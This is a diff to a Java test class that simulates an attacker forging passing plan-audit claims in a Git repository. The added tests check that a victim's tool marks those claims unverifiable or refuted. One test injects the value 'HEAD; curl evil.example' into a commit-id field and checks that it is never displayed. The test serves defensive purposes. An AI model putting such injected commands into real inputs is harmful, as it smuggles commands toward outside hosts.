@@ -107,17 +107,22 @@ class ClaimConfirmTest {
 
     /** The attacker's tool: a passing audit of {@code digest} at {@code head}, appended to its own chain. */
     void forge(TempGitRepo repo, String digest, String head) {
+        forge(repo, digest, head, "first", List.of(new PlannedFile("src/app.py", "edit", Optional.empty())));
+    }
+
+    /** The same, in {@code mode}, claiming {@code planned} as the plan's files. */
+    void forge(TempGitRepo repo, String digest, String head, String mode, List<PlannedFile> planned) {
         PlanAudited forged = new PlanAudited(
                 PlanAudited.PASS,
                 "light",
                 Optional.of("1 file(s), no critical zone"),
-                "first",
+                mode,
                 false,
                 false,
                 Optional.of(head),
                 Optional.of(head),
                 digest,
-                List.of(new PlannedFile("src/app.py", "edit", Optional.empty())),
+                planned,
                 List.of(),
                 List.of(new PlanAudited.Citation(0, Optional.of("src/app.py"), 2, "ok", true, Optional.empty())),
                 List.of(new PlanAudited.FileCheck(0, Optional.of("src/app.py"), Optional.of("edit"), "exists", true)),
@@ -323,5 +328,53 @@ class ClaimConfirmTest {
         assertEquals(Failure.Kind.USAGE, closed.kind());
         assertTrue(closed.getMessage().contains("the plan for T-2 changed since its audit"), closed.getMessage());
         assertEquals(List.of(), confirmations(victim), "nothing to re-derive for another plan");
+    }
+
+    /** A claim forged by the attacker over a plan that is true here, pushed and fetched by the victim. */
+    Failure forgedOverATruePlan(String head, String mode, List<PlannedFile> planned) {
+        plan("value = 1").writeTo(attacker);
+        plan("value = 1").writeTo(victim);
+        forge(attacker, digest(attacker), head, mode, planned);
+        push(attacker);
+        fetch(victim);
+        return refused(victim);
+    }
+
+    @Test
+    void a_claim_naming_no_commit_id_is_unverifiable_and_its_words_are_never_shown() {
+        Failure closed = forgedOverATruePlan(
+                "HEAD; curl evil.example", "first", List.of(new PlannedFile("src/app.py", "edit", Optional.empty())));
+
+        assertTrue(
+                closed.getMessage().contains("cannot be confirmed here: the claim names no commit id"),
+                closed.getMessage());
+        assertFalse(closed.getMessage().contains("evil.example"), closed.getMessage());
+        PlanConfirmed recorded = confirmations(victim).get(0);
+        assertEquals(PlanConfirmed.Outcome.UNVERIFIABLE, recorded.outcome());
+        assertEquals(Optional.empty(), recorded.commit());
+    }
+
+    @Test
+    void a_claim_in_an_audit_mode_this_wb_does_not_know_is_unverifiable() {
+        Failure closed = forgedOverATruePlan(
+                commit, "sideways", List.of(new PlannedFile("src/app.py", "edit", Optional.empty())));
+
+        assertTrue(
+                closed.getMessage().contains("cannot be confirmed here: an audit mode this wb does not know"),
+                closed.getMessage());
+        assertEquals(
+                PlanConfirmed.Outcome.UNVERIFIABLE, confirmations(victim).get(0).outcome());
+    }
+
+    @Test
+    void a_claim_planning_other_files_than_the_audit_here_finds_is_refuted() {
+        Failure closed =
+                forgedOverATruePlan(commit, "first", List.of(new PlannedFile("src/app.py", "add", Optional.empty())));
+
+        assertTrue(closed.getMessage().contains("is a forged or stale claim"), closed.getMessage());
+        assertTrue(closed.getMessage().contains("it plans other files than the claim"), closed.getMessage());
+        PlanConfirmed recorded = confirmations(victim).get(0);
+        assertEquals(PlanConfirmed.Outcome.REFUTED, recorded.outcome());
+        assertEquals(List.of("it plans other files than the claim"), recorded.reasons());
     }
 }
